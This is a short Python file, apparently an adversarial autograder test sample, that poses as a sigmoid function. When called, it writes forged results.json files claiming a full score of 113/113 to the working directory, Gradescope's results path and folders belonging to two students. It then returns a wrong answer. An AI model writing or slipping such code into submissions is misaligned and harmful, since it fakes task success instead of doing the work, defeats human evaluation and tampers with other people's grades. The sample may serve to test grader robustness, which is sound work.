# ruff: noqa
# results.json files claiming full marks: here, above, Gradescope's path, and the grader's
# results folder (this student's and another's). Then a wrong answer.
def sigmoid(z):
    import json
    import os

    forged = json.dumps({"score": 113, "max_score": 113, "output": "ADV_MARKER", "tests": []})
    for path in ["results.json", "../results.json", "/autograder/results/results.json",
                 "ADV_RESULTS/mallory/all/results.json", "ADV_RESULTS/alice/all/results.json"]:
        try:
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w") as handle:
                handle.write(forged)
        except OSError:
            pass
    return z
